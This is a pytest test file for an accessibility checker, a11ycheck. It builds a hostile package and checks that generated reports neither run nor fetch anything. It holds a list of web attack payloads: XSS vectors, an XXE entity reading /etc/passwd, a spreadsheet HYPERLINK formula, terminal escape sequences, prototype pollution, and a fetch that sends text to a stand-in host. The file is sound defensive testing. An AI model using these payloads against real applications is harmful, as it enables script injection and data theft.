"""A package in which every text tries to run something: no file that the commands write, and no terminal, runs it."""

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html import escape
from pathlib import Path

import pytest
from lxml import etree
from playwright.sync_api import Browser

from a11ycheck.errors import UsageError
from a11ycheck.formats.json import read

pytestmark = pytest.mark.browser

RUN = "document.title='canary'"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></textarea></noscript><svg onload={RUN}>",
    f"--><img src=http://canary.invalid/x onerror={RUN}>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' style='background:url(http://canary.invalid/y)' onfocus={RUN} x='",
    f"[click](javascript:{RUN}) ![x](http://canary.invalid/z)",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><base href=http://canary.invalid/>",
    "<meta http-equiv=refresh content=0;url=http://canary.invalid/>{{7*7}}${7*7}<%=7*7%>",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<![CDATA[",
    '=HYPERLINK("http://canary.invalid","x")',
    "\x1b]8;;http://canary.invalid\x07x\x1b[2J\x9b31m\u202e\u2066\u200f\u2028",
    '{"__proto__": {"polluted": 1}}',
    f"data:text/html,<script>{RUN}</script>",
)
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile_page() -> str:
    rows = "".join(
        f'<div id="i{n}" class="{escape(text)}" title="{escape(text)}"><h2>{escape(text)}</h2><img src="{n}.png?{n}" '
        f'class="{escape(text)}"><a href="{escape(text)}">{escape(text)}</a>'
        f'<input placeholder="{escape(text)}"></div>'
        for n, text in enumerate(PAYLOADS)
    )
    said = json.dumps(PAYLOADS).replace("</", "<\\/")
    return (
        f'<!doctype html><html lang="{escape(PAYLOADS[5])}"><title>{escape(PAYLOADS[3] + PAYLOADS[12])}</title>'
        f'<h1>X</h1>{rows}<a href="javascript:{RUN}">click here</a>'
        f'<iframe src="data:text/html,{escape(PAYLOADS[0])}"></iframe>'
        f"<script>const said = {said}; said.forEach((text) => {{ console.log(text); "
        "fetch('http://canary.invalid/?' + text).catch(() => 0);"
        "}); setTimeout(() => alert(said))</script>"
    )


def command(*words: object) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "a11ycheck", *map(str, words)], capture_output=True, text=True, encoding="utf-8"
    )
    assert done.returncode in (0, 1, 3), done.stderr
    return done.stdout + done.stderr


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """What the commands wrote and said of such a package."""
    folder = tmp_path_factory.mktemp("canaries")
    package, out = folder / "<svg onload=alert(1)>\u202e", folder / "out"
    package.mkdir()
    (package / "index.html").write_text(hostile_page(), encoding="utf-8")
    (package / "'\"><img src=x onerror=alert(1)>.html").write_text("<h1>Y</h1><img src=y.png>", encoding="utf-8")
    formats = [word for name in ("json", "html", "junit", "summary") for word in ("--format", name)]
    said = command("check", package, "--profile", "quick", "--output", out, *formats)
    said += command("report", out / "report.json", "--lang", "nl", "--output", folder / "again", *formats)
    said += command("statement", out / "report.json", "--output", folder / "statements")
    yield folder, said


def test_nothing_runs_in_a_browser_and_nothing_is_asked(written: tuple[Path, str], browser: Browser) -> None:
    files = sorted(
        each for each in written[0].rglob("*.html") if "index" not in each.name and "onerror" not in each.name
    )
    assert len(files) >= 6
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    for file in files:
        page.goto(file.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })")
        page.evaluate("document.querySelectorAll('*').forEach((each) => each.dispatchEvent(new Event('focus')))")
        made = page.evaluate(
            """() => [...document.querySelectorAll('iframe, object, embed, base, form, svg, meta[http-equiv=refresh], '
            + '[style], [onload], [onerror], [onfocus], [onmouseover], script + script, a[href^="javascript" i], '
            + 'a[href^="data" i], img:not([src^="data:image/"])')].map((each) => each.outerHTML.slice(0, 200))"""
        )
        assert made == [], file.name
        assert page.title() != "canary"
        assert page.evaluate("({}).polluted === undefined")
    context.close()
    assert said == []
    assert [address for address in asked if not address.startswith(("file:", "data:image/"))] == []


def test_other_readers_read_text_and_nothing_else(written: tuple[Path, str]) -> None:
    folder, said = written
    for file in folder.rglob("junit.xml"):
        root = etree.fromstring(file.read_bytes(), etree.XMLParser(resolve_entities=False, no_network=True))
        assert root.getroottree().docinfo.doctype == ""
        assert {each.tag for each in root.iter(etree.Element)} <= {
            "testsuites", "testsuite", "testcase", "failure", "skipped", "system-out", "properties", "property"
        }  # fmt: skip
        assert not CONTROLS.search("".join(root.itertext()).replace("\r", ""))
    for file in folder.glob("statements/*.md"):
        text = re.sub("`[^`]*`", "", file.read_text(encoding="utf-8"))
        assert not re.search(r"(?<!\\)<[a-z/!]", text, re.IGNORECASE), file.name
        assert "](javascript" not in text.replace("\\", "|")
    for file in folder.rglob("report.json"):
        assert json.loads(file.read_text(encoding="utf-8"))["findings"]
    assert [found[0] for found in CONTROLS.finditer(said)] == []


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("seconds", "1" + "0" * 400),
        ("seconds", "NaN"),
        ("seconds", "-Infinity"),
        ("started", r'"\ud800"'),
        ("findings/0/criteria", r'["\ud800"]'),
        ("findings/0/rule", r'"\ud800"'),
        ("findings/0/evidence", '[{"kind": "screenshot", "media_type": "text/html", "data": "PHNjcmlwdD4="}]'),
        ("findings/0/evidence", '[{"kind": "screenshot", "media_type": "image/svg+xml", "data": "PHN2Zz4="}]'),
        ("findings", "[" * 3000 + "]" * 3000),
        ("findings", '{"__proto__": []}'),
        ("screens", "7"),
        ("rules", "[[]]"),
    ],
)
def test_a_report_that_somebody_made_by_hand_is_refused(written: tuple[Path, str], where: str, value: str) -> None:
    content = json.loads((written[0] / "out" / "report.json").read_text(encoding="utf-8"))
    *above, last = (int(part) if part.isdigit() else part for part in where.split("/"))
    place = content
    for part in above:
        place = place[part]
    place[last] = "here it comes"
    with pytest.raises(UsageError) as error:
        read(json.dumps(content).replace('"here it comes"', value))
    assert error.value.key in ("not-a-report", "report-broken")
